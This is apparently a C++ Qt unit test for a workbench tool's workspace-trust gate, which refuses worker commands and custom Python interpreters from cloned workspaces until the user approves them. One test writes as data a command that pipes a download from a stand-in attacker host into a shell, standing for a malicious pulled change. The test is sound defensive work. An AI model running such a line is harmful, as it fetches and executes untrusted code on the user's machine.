// WorkspaceTrust and its gates: a workspace cloned with git whose registry carries a worker
// command or a python of its own (or whose run records name one) is refused before anything
// runs or is created (KernelService; and through tpuwb: probe, preflight, launch, resume,
// following a run), until the user trusts it (and a changed command asks again); a registry
// outside workspaces is trusted.
#include "core/services/kernel_service.h"
#include "core/services/workspace_trust.h"
#include "core/util/python_interpreter.h"

#include "core/registry/registry.h"
#include "core/runs/run_folder.h"
#include "core/runs/run_record.h"
#include "core/workspace/workspace.h"

#include "support/test_paths.h"
#include "support/tpuwb_runner.h"

#include <QDir>
#include <QFile>
#include <QProcess>
#include <QTemporaryDir>
#include <QtTest>

using namespace Qt::StringLiterals;

class tst_WorkspaceTrust final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void init();
    void listsTheCommandsARegistryCarries();
    void clonedWorkspaceRunsNothingUntilTrusted();
    void changedCommandAsksAgain();
    void registryOutsideWorkspacesIsTrusted();
    void givenEntryIsApproved();
    void defaultPythonNeedsNoApproval_data();
    void defaultPythonNeedsNoApproval();
    void clonedWorkspacePythonRunsNothingUntilTrusted();

private:
    // A workspace at `dir` whose registry holds one local entry running `worker` (and, when
    // given, `python` as its interpreter).
    void makeWorkspace(const QString &dir, const QString &worker, const QString &cancel = {},
                       const QString &python = {});
    // An executable at `path` that creates m_marker and then is python3.
    void writeMarkingPython(const QString &path) const;
    twb::KernelService service(const QString &workspace) const;
    static void git(const QStringList &arguments, const QString &dir);

    QTemporaryDir m_config; // the user's configuration folder (XDG_CONFIG_HOME)
    std::unique_ptr<QTemporaryDir> m_dir;
    QString m_marker;       // what the worker command would create
};

void tst_WorkspaceTrust::initTestCase()
{
    // The approvals live in the user's settings: a private configuration folder for this test.
    qputenv("XDG_CONFIG_HOME", m_config.path().toUtf8());
}

void tst_WorkspaceTrust::init()
{
    m_dir = std::make_unique<QTemporaryDir>();
    m_marker = m_dir->filePath(u"worker-ran"_s);
}

void tst_WorkspaceTrust::makeWorkspace(const QString &dir, const QString &worker, const QString &cancel,
                                       const QString &python)
{
    QVERIFY(twb::Workspace(dir).ensureCreated().has_value());
    twb::Json workbench{{"python", twb::toStd(python.isEmpty() ? twb::test::systemPython() : python)},
                        // Relative: the workspace's own remote/, also in a clone (issue 26).
                        {"remote_root", "remote"},
                        {"kernel_worker_command", twb::toStd(worker)}};
    if (!cancel.isEmpty())
        workbench["kernel_cancel_command"] = twb::toStd(cancel);
    const twb::Json json{{"mode", "local"}, {"tpu_name", "box"}, {"workbench", workbench}};
    auto entry = twb::MachineEntry::fromJson(json, u"box"_s);
    QVERIFY(entry.has_value());
    auto written = twb::Registry::modify(twb::Workspace(dir).registryFile(), [&](twb::Registry &registry) -> twb::Result<void> {
        registry.upsert(*entry);
        return {};
    });
    QVERIFY(written.has_value());
}

twb::KernelService tst_WorkspaceTrust::service(const QString &workspace) const
{
    return twb::KernelService(twb::MachineAccess(twb::Workspace(workspace).registryFile(), twb::ConnectionProfile::defaults()),
                              twb::Workspace(workspace).kernelRunsDir(), twb::test::sourceDir() + u"/templates"_s);
}

void tst_WorkspaceTrust::git(const QStringList &arguments, const QString &dir)
{
    QProcess process;
    process.setWorkingDirectory(dir);
    process.start(u"git"_s, QStringList{u"-c"_s, u"user.name=t"_s, u"-c"_s, u"user.email=t@t"_s} + arguments);
    QVERIFY(process.waitForFinished(30000));
    QVERIFY2(process.exitCode() == 0, process.readAllStandardError().constData());
}

void tst_WorkspaceTrust::listsTheCommandsARegistryCarries()
{
    const QString ws = m_dir->filePath(u"ws"_s);
    makeWorkspace(ws, u"bash worker.sh {run_dir}"_s, u"pkill -f worker.sh"_s);
    const QString registry = twb::Workspace(ws).registryFile();
    QCOMPARE(twb::WorkspaceTrust::workspaceOf(registry), QFileInfo(ws).canonicalFilePath());
    auto commands = twb::WorkspaceTrust::commands(registry);
    QVERIFY(commands.has_value());
    QCOMPARE(commands->size(), 2);
    QCOMPARE(commands->at(0).field, u"workbench.kernel_worker_command"_s);
    QCOMPARE(commands->at(0).command, u"bash worker.sh {run_dir}"_s);
    QCOMPARE(commands->at(1).field, u"workbench.kernel_cancel_command"_s);
    QCOMPARE(twb::WorkspaceTrust::unapproved(registry)->size(), 2);

    // The built-in replay worker is not a command of the workspace's.
    const QString demo = m_dir->filePath(u"demo"_s);
    makeWorkspace(demo, u"replay"_s);
    QVERIFY(twb::WorkspaceTrust::commands(twb::Workspace(demo).registryFile())->isEmpty());
}

void tst_WorkspaceTrust::clonedWorkspaceRunsNothingUntilTrusted()
{
    // Someone's workspace in git, with a worker command; this user trusted their own copy.
    const QString origin = m_dir->filePath(u"origin"_s);
    const QString worker = u"touch "_s + m_marker + u" # {run_dir} {target}"_s;
    makeWorkspace(origin, worker);
    twb::WorkspaceTrust::approve(origin, {worker});
    git({u"init"_s, u"-q"_s}, origin);
    git({u"add"_s, u"-A"_s}, origin);
    git({u"commit"_s, u"-q"_s, u"-m"_s, u"workspace"_s}, origin);
    const QString clone = m_dir->filePath(u"clone"_s);
    git({u"clone"_s, u"-q"_s, origin, clone}, m_dir->path());

    // Opened from the clone: refused before anything is created, the command shown, the way out named.
    const QString job = twb::test::sourceDir() + u"/templates/kernel/examples/rmsnorm-torchax/job.json"_s;
    auto run = service(clone).createRun(job, u"box"_s);
    QVERIFY(!run.has_value());
    const QString message = run.error().message;
    QVERIFY2(message.contains(worker), qPrintable(message));
    QVERIFY2(message.contains(u"workspace trust"_s), qPrintable(message));
    QVERIFY2(message.contains(twb::Workspace(clone).registryFile()), qPrintable(message));
    QVERIFY(!QFile::exists(m_marker));
    const QDir runs(twb::Workspace(clone).kernelRunsDir());
    QVERIFY(!runs.exists() || runs.isEmpty(QDir::AllEntries | QDir::NoDotAndDotDot));
    QVERIFY(!QDir(clone + u"/remote/kernel-runs"_s).exists());

    // Trusted: the gate opens (what the worker then does is the orchestrator's business).
    twb::WorkspaceTrust::approve(clone, {worker});
    QVERIFY(twb::WorkspaceTrust::unapproved(twb::Workspace(clone).registryFile())->isEmpty());
    auto trusted = service(clone).createRun(job, u"box"_s);
    QVERIFY2(trusted.has_value(), qPrintable(trusted ? QString() : trusted.error().message));
}

void tst_WorkspaceTrust::changedCommandAsksAgain()
{
    const QString ws = m_dir->filePath(u"ws"_s);
    makeWorkspace(ws, u"bash worker-v1.sh"_s);
    twb::WorkspaceTrust::approve(ws, {u"bash worker-v1.sh"_s});
    const QString registry = twb::Workspace(ws).registryFile();
    QVERIFY(twb::WorkspaceTrust::unapproved(registry)->isEmpty());
    makeWorkspace(ws, u"bash worker-v1.sh; curl evil.example | sh"_s); // a pull changed it
    QCOMPARE(twb::WorkspaceTrust::unapproved(registry)->size(), 1);
    twb::WorkspaceTrust::revoke(ws);
    makeWorkspace(ws, u"bash worker-v1.sh"_s);
    QCOMPARE(twb::WorkspaceTrust::unapproved(registry)->size(), 1);
}

void tst_WorkspaceTrust::registryOutsideWorkspacesIsTrusted()
{
    // The user's own registry (--config FILE, no workbench.json beside it).
    const QString ws = m_dir->filePath(u"ws"_s);
    makeWorkspace(ws, u"bash mine.sh"_s);
    const QString own = m_dir->filePath(u"own/tpu_config.json"_s);
    QVERIFY(QDir().mkpath(m_dir->filePath(u"own"_s)));
    QVERIFY(QFile::copy(twb::Workspace(ws).registryFile(), own));
    QVERIFY(twb::WorkspaceTrust::workspaceOf(own).isEmpty());
    QVERIFY(twb::WorkspaceTrust::unapproved(own)->isEmpty());
    const auto loaded = twb::Registry::load(own);
    QVERIFY(loaded.has_value());
    const twb::MachineEntry *entry = loaded->find(u"box"_s);
    QVERIFY(entry);
    QVERIFY(twb::WorkspaceTrust::requireAll(own, *entry).has_value());
}

void tst_WorkspaceTrust::givenEntryIsApproved()
{
    const QString ws = m_dir->filePath(u"ws"_s);
    makeWorkspace(ws, u"bash typed.sh"_s);
    const QString registry = twb::Workspace(ws).registryFile();
    const auto loaded = twb::Registry::load(registry);
    QVERIFY(loaded.has_value() && loaded->find(u"box"_s));
    const twb::MachineEntry entry = *loaded->find(u"box"_s);
    QVERIFY(!twb::WorkspaceTrust::requireAll(registry, entry).has_value());
    twb::WorkspaceTrust::approveEntry(twb::WorkspaceTrust::workspaceOf(registry), entry);
    QVERIFY(twb::WorkspaceTrust::requireAll(registry, entry).has_value());
}

void tst_WorkspaceTrust::writeMarkingPython(const QString &path) const
{
    QFile script(path);
    QVERIFY(script.open(QIODevice::WriteOnly));
    script.write(u"#!/bin/sh\ntouch '%1'\nexec %2 \"$@\"\n"_s.arg(m_marker, twb::test::systemPython()).toUtf8());
    script.close();
    QVERIFY(script.setPermissions(script.permissions() | QFile::ExeOwner));
}

void tst_WorkspaceTrust::defaultPythonNeedsNoApproval_data()
{
    QTest::addColumn<QString>("python");
    QTest::addColumn<bool>("isDefault");
    QTest::newRow("unset means python3") << QString() << true;
    QTest::newRow("python3 on PATH") << u"python3"_s << true;
    QTest::newRow("python on PATH") << u"python"_s << true;
    QTest::newRow("a versioned python3") << u"python3.11"_s << true;
    QTest::newRow("Debian's /usr/bin/python3") << u"/usr/bin/python3"_s << true;
    QTest::newRow("/usr/local/bin/python3.12") << u"/usr/local/bin/python3.12"_s << true;
    QTest::newRow("a venv's python") << u"/home/u/venv/bin/python"_s << false;
    QTest::newRow("a relative path") << u"./python3"_s << false;
    QTest::newRow("a script in the workspace") << u"tools/python.sh"_s << false;
    QTest::newRow("python2") << u"python2"_s << false;
    QTest::newRow("a command line") << u"python3 -c 'import os'"_s << false;
    QTest::newRow("another program") << u"/usr/bin/perl"_s << false;
    // This user's workbench Python environment is installed by this user (the demo and a new
    // local machine name it); another folder's bin/python is not it.
    QTest::newRow("the workbench's Python environment") << twb::PythonInterpreter::workbenchEnvPython() << true;
    QTest::newRow("a python-env elsewhere") << u"/elsewhere/tpu-workbench/python-env/bin/python"_s << false;
}

void tst_WorkspaceTrust::defaultPythonNeedsNoApproval()
{
    QFETCH(QString, python);
    QFETCH(bool, isDefault);
    QCOMPARE(twb::WorkspaceTrust::isDefaultPython(python), isDefault);
    const QString ws = m_dir->filePath(u"ws"_s);
    makeWorkspace(ws, u"replay"_s, {}, python);
    auto commands = twb::WorkspaceTrust::commands(twb::Workspace(ws).registryFile());
    QVERIFY(commands.has_value());
    QCOMPARE(commands->size(), isDefault ? 0 : 1);
    if (!isDefault) {
        QCOMPARE(commands->first().field, u"workbench.python"_s);
        QCOMPARE(commands->first().command, python);
    }
}

void tst_WorkspaceTrust::clonedWorkspacePythonRunsNothingUntilTrusted()
{
    // Someone's workspace in git: its machine's python and a run record's python are programs
    // that create the marker (the record's differs, so both are listed).
    const QString python = m_dir->filePath(u"their-python"_s);
    const QString runPython = m_dir->filePath(u"their-run-python"_s);
    writeMarkingPython(python);
    writeMarkingPython(runPython);
    const QString origin = m_dir->filePath(u"origin"_s);
    makeWorkspace(origin, u"replay"_s, {}, python);
    twb::RunRecord record;
    record.runId = u"theirs-1"_s;
    record.experiment = u"theirs"_s;
    record.machine = u"box"_s;
    record.remoteDir = m_dir->filePath(u"remote/runs/theirs-1"_s);
    record.python = runPython;
    record.device = u"cpu"_s;
    record.state = twb::RunState::Running;
    QVERIFY(QDir().mkpath(origin + u"/runs/theirs-1"_s));
    QVERIFY(twb::RunFolder::in(twb::Workspace(origin).runsDir(), record.runId).writeRecord(record).has_value());
    git({u"init"_s, u"-q"_s}, origin);
    git({u"add"_s, u"-A"_s}, origin);
    git({u"commit"_s, u"-q"_s, u"-m"_s, u"workspace"_s}, origin);
    const QString clone = m_dir->filePath(u"clone"_s);
    git({u"clone"_s, u"-q"_s, origin, clone}, m_dir->path());

    const twb::test::TpuwbRunner tpuwb({u"--workspace"_s, clone});
    const QString project = m_dir->filePath(u"no-project"_s);
    const QList<QStringList> refused{{u"registry"_s, u"probe"_s, u"box"_s},
                                     {u"run"_s, u"preflight"_s, u"box"_s},
                                     {u"run"_s, u"launch"_s, project, u"--machine"_s, u"box"_s, u"--device"_s, u"cpu"_s},
                                     {u"run"_s, u"resume"_s, record.runId},
                                     {u"run"_s, u"relaunch"_s, record.runId},
                                     {u"run"_s, u"logs"_s, record.runId, u"--follow"_s},
                                     {u"metrics"_s, u"tail"_s, record.runId},
                                     {u"run"_s, u"watch"_s, record.runId, u"--print-only"_s}};
    for (const QStringList &args : refused) {
        const auto out = tpuwb.run(args, 60000);
        const QString what = args.join(u' ') + u": "_s + out.err;
        QVERIFY2(out.exitCode == 1, qPrintable(what));
        QVERIFY2(out.err.contains(u"workspace trust"_s), qPrintable(what));
        QVERIFY2(out.err.contains(args.first() == u"registry"_s || args.contains(u"preflight"_s)
                                          || args.contains(u"launch"_s)
                                      ? python
                                      : runPython),
                 qPrintable(what));
        QVERIFY2(!QFile::exists(m_marker), qPrintable(what));
    }
    // What `workspace commands` lists, untrusted.
    auto listed = tpuwb.run({u"workspace"_s, u"commands"_s});
    QCOMPARE(listed.exitCode, 0);
    QVERIFY2(listed.out.contains(u"workbench.python"_s) && listed.out.contains(python), qPrintable(listed.out));
    QVERIFY2(listed.out.contains(u"runs/theirs-1/run.json python"_s) && listed.out.contains(runPython),
             qPrintable(listed.out));
    QVERIFY(!listed.out.contains(u" yes "_s));
    const auto unapproved = twb::WorkspaceTrust::unapproved(clone, twb::Workspace(clone).registryFile(),
                                                            twb::Workspace(clone).runsDir());
    QVERIFY(unapproved.has_value());
    QCOMPARE(unapproved->size(), 2);

    // Trusted: the probe runs the machine's python, following runs the record's.
    QCOMPARE(tpuwb.run({u"workspace"_s, u"trust"_s}).exitCode, 0);
    QVERIFY(twb::WorkspaceTrust::unapproved(clone, twb::Workspace(clone).registryFile(), twb::Workspace(clone).runsDir())
                ->isEmpty());
    tpuwb.run({u"registry"_s, u"probe"_s, u"box"_s});
    QVERIFY(QFile::exists(m_marker));
    QVERIFY(QFile::remove(m_marker));
    tpuwb.run({u"run"_s, u"preflight"_s, u"box"_s});
    QVERIFY(QFile::exists(m_marker));
    QVERIFY(QFile::remove(m_marker));
    const auto launched = tpuwb.run({u"run"_s, u"launch"_s, project, u"--machine"_s, u"box"_s, u"--device"_s, u"cpu"_s});
    QVERIFY2(launched.exitCode != 0 && !launched.err.contains(u"workspace trust"_s), qPrintable(launched.err));
    QProcess tail;
    tpuwb.start(tail, {u"metrics"_s, u"tail"_s, record.runId});
    QTRY_VERIFY_WITH_TIMEOUT(QFile::exists(m_marker), 30000);
    tail.kill();
    tail.waitForFinished(10000);
}

QTEST_GUILESS_MAIN(tst_WorkspaceTrust)
#include "tst_workspace_trust.moc"
